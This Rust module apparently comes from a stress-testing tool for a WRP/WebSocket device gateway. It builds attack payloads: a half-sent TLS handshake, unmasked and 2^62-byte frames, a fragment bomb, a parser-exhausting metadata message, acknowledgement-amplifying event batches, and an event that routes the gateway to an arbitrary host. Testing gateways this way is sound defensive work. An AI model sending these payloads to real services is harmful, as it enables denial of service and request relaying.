//! The bytes that attackers send.

use std::net::SocketAddr;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use wrp::{MessageRef, MessageType, Qos};

use crate::attack::limits::LONGEST_MESSAGE;
use crate::ws::{Opcode, encode};

/// The first bytes of a TLS record with a ClientHello of 508 bytes. The rest is never sent.
pub(super) const HALF_HELLO: &[u8] = &[0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03];

/// The payload of a frame of the unmasked flood, in bytes.
const FRAME: usize = 1000;

/// A fragment of the fragment bomb, in bytes.
const FRAGMENT: usize = 64 * 1024;

/// The entries of a costly message: three bytes each, the shortest that have different keys.
const ENTRIES: usize = 200_000;

/// What the acknowledgement of an event repeats, in bytes. Gateways may leave out more.
const REPEATED: usize = 2 * 1024;

/// How many events are sent at once.
const EVENTS: usize = 16;

/// A frame without a mask.
pub(super) fn unmasked() -> Vec<u8> {
    let mut frame = vec![0x82, 126];
    frame.extend_from_slice(&(FRAME as u16).to_be_bytes());
    frame.resize(4 + FRAME, b'x');
    frame
}

/// The head of a frame of 2^62 bytes.
pub(super) fn giant_head() -> Vec<u8> {
    let mut head = vec![0x82, 0xff];
    head.extend_from_slice(&(1u64 << 62).to_be_bytes());
    head.extend_from_slice(&[0; 4]);
    head
}

/// A part of its payload.
pub(super) fn zeros() -> Vec<u8> {
    vec![0; FRAGMENT]
}

/// A fragment that is not the last of its message, masked with zeros.
pub(super) fn fragment(opcode: u8) -> Vec<u8> {
    let mut out = vec![opcode, 0xff];
    out.extend_from_slice(&(FRAGMENT as u64).to_be_bytes());
    out.resize(2 + 8 + 4 + FRAGMENT, 0);
    out
}

/// The longest message that is accepted, without its last byte.
pub(super) fn unfinished() -> Vec<u8> {
    let mut out = vec![0x82, 0xff];
    out.extend_from_slice(&(LONGEST_MESSAGE as u64).to_be_bytes());
    out.resize(2 + 8 + 4 + LONGEST_MESSAGE - 1, 0);
    out
}

/// A message whose metadata has as many entries as fit into its bytes.
pub(super) fn costly_message() -> Vec<u8> {
    frame(|out| {
        out.extend_from_slice(b"\x83\xa8msg_type\x04\xa3qos\x37\xa8metadata\xdf");
        out.extend_from_slice(&(ENTRIES as u32).to_be_bytes());
        for entry in 0..ENTRIES {
            out.extend_from_slice(&[0xa1, entry as u8 & 0x7f, 0xa0]);
        }
    })
}

/// An event for a host that the device names.
pub(super) fn event_to(device: &str, host: SocketAddr) -> Vec<u8> {
    let dest = format!("dns:http://{host}/hook");
    let event = MessageRef {
        msg_type: MessageType::SIMPLE_EVENT,
        source: device.into(),
        dest: dest.as_str().into(),
        ..MessageRef::default()
    };
    frame(|out| event.encode_v3(out))
}

/// Events with acknowledgements that are nearly as long as the events.
pub(super) fn events_with_long_acks(device: &str) -> Vec<u8> {
    let (dest, value) = (format!("event:talaria-sim/{device}"), "x".repeat(REPEATED));
    let mut event = MessageRef {
        msg_type: MessageType::SIMPLE_EVENT,
        source: device.into(),
        dest: dest.as_str().into(),
        qos: Qos(75),
        ..MessageRef::default()
    };
    event.set_metadata("repeated", &value);
    frame(|out| event.encode_v3(out)).repeat(EVENTS)
}

/// The value of a convey header that names the model.
pub(super) fn convey(model: &str) -> String {
    STANDARD.encode(serde_json::json!({ "hw-model": model, "fw-name": model }).to_string())
}

/// A frame with this payload, masked with zeros.
fn frame(write: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    let mut out = vec![];
    let start = encode(&mut out, Opcode::Binary, [0; 4], write);
    out.split_off(start)
}
